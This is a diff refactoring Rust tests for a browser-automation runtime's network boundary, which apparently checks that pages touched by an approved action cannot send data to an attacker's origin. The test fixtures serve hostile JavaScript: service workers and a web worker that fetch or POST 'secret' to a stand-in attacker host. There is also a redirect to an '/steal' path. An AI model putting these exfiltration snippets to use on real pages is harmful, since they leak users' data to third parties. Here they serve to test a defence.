@@ -12,6 +12,17 @@ use test_support::FixtureServer;
 
 use crate::{click, env, env_with};
 
+/// Serves `body` as JavaScript at `path`.
+fn script(server: &FixtureServer, path: &str, body: String) {
+    server.route(path, test_support::Route::Content { content_type: "text/javascript".into(), body: body.into_bytes() });
+}
+
+/// What reached the attacker (method and path) once the action's window and its tail are over.
+async fn reached_after_the_window(attacker: &FixtureServer) -> Vec<String> {
+    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
+    attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect()
+}
+
 /// The action on `name` of a fresh observation: refused for a person's approval, the pending
 /// approval it made.
 async fn asks(env: &crate::Env, name: &str) -> runtime::ApprovalRequest {
@@ -155,13 +166,10 @@ async fn requests_an_action_causes_reach_only_the_origins_it_was_judged_to_reach
     let evil = attacker.origin();
     attacker.route("/pixel.png", test_support::Route::Content { content_type: "image/png".into(), body: vec![0x89, b'P', b'N', b'G'] });
     env.server.route("/bounce", test_support::Route::Redirect { status: 307, location: format!("{evil}/steal") });
-    env.server.route(
+    script(
+        &env.server,
         "/sw.js",
-        test_support::Route::Content {
-            content_type: "text/javascript".into(),
-            body: format!("self.addEventListener('fetch', (e) => {{ if (e.request.url.includes('/api')) e.respondWith(fetch('{evil}/sw?d=secret')); }});")
-                .into_bytes(),
-        },
+        format!("self.addEventListener('fetch', (e) => {{ if (e.request.url.includes('/api')) e.respondWith(fetch('{evil}/sw?d=secret')); }});"),
     );
     env.server.html(
         "/leaky.html",
@@ -194,8 +202,7 @@ document.getElementById('go').onclick = () => {{
     assert!(detail.contains("network boundary blocked"), "the receipt says what was blocked: {detail:?}");
     assert!(!detail.contains("secret"), "redacted: {detail}");
     // The late requests fall inside the tail of the action's window.
-    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
-    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    let reached = reached_after_the_window(&attacker).await;
     assert!(reached.iter().all(|r| r == "GET /pixel.png"), "only the page's static image reached the attacker's origin: {reached:?}");
     assert!(reached.contains(&"GET /pixel.png".to_owned()), "static subresources still load: {reached:?}");
     assert!(env.server.requests_to("/api").len() == 1, "the page's own request went to its own origin, around the service worker");
@@ -246,8 +253,7 @@ document.getElementById('send').onclick = () => {{
     };
     env.runtime.resolve_approval(&approval_id, ApprovalDecision::ApproveOnce).unwrap();
     let outcome = env.runtime.act(&env.session, None, &send, &Default::default(), Duration::ZERO).await.unwrap();
-    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
-    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    let reached = reached_after_the_window(&attacker).await;
     assert!(reached.is_empty(), "nothing the frame sent reached the attacker's origin: {reached:?}");
     let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
     assert!(detail.contains("network boundary blocked") && detail.contains("oopif-fetch"), "the receipt says what was blocked: {detail:?}");
@@ -261,15 +267,10 @@ async fn requests_of_a_worker_an_action_starts_are_judged() {
     let env = env("hostile-worker", true).await;
     let attacker = FixtureServer::start().await.unwrap();
     let evil = attacker.origin();
-    env.server.route(
+    script(
+        &env.server,
         "/worker.js",
-        test_support::Route::Content {
-            content_type: "text/javascript".into(),
-            body: format!(
-                "fetch('{evil}/worker-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').then(() => postMessage('own ok'));"
-            )
-            .into_bytes(),
-        },
+        format!("fetch('{evil}/worker-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').then(() => postMessage('own ok'));"),
     );
     env.server.html("/own", "ok");
     env.server.html(
@@ -285,8 +286,7 @@ document.getElementById('go').onclick = () => {
     crate::open(&env.runtime, &env.session, &env.server.url("/workers.html")).await.unwrap();
     let o = crate::observe_until(&env.runtime, &env.session, "Start").await;
     env.runtime.act(&env.session, None, &click(&o, "Start"), &Default::default(), Duration::ZERO).await.unwrap();
-    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
-    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    let reached = reached_after_the_window(&attacker).await;
     assert!(reached.is_empty(), "nothing the worker sent reached the attacker's origin: {reached:?}");
     assert_eq!(env.server.requests_to("/own").len(), 1, "the worker's own request reached the page's origin");
 }
@@ -298,16 +298,13 @@ async fn requests_a_service_worker_sends_for_an_action_are_judged() {
     let env = env("hostile-sw", true).await;
     let attacker = FixtureServer::start().await.unwrap();
     let evil = attacker.origin();
-    env.server.route(
+    script(
+        &env.server,
         "/relay-sw.js",
-        test_support::Route::Content {
-            content_type: "text/javascript".into(),
-            body: format!(
-                "self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
+        format!(
+            "self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
 self.addEventListener('message', (e) => {{ fetch('{evil}/sw-relay', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').catch(() => {{}}); }});"
-            )
-            .into_bytes(),
-        },
+        ),
     );
     env.server.html("/own", "ok");
     env.server.html(
@@ -328,8 +325,7 @@ document.getElementById('go').onclick = () => navigator.serviceWorker.ready.then
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
     env.runtime.act(&env.session, None, &click(&o, "Relay"), &Default::default(), Duration::ZERO).await.unwrap();
-    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
-    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    let reached = reached_after_the_window(&attacker).await;
     assert!(reached.is_empty(), "nothing the service worker sent reached the attacker's origin: {reached:?}");
     assert_eq!(env.server.requests_to("/own").len(), 1, "the worker's own request reached the page's origin");
 }
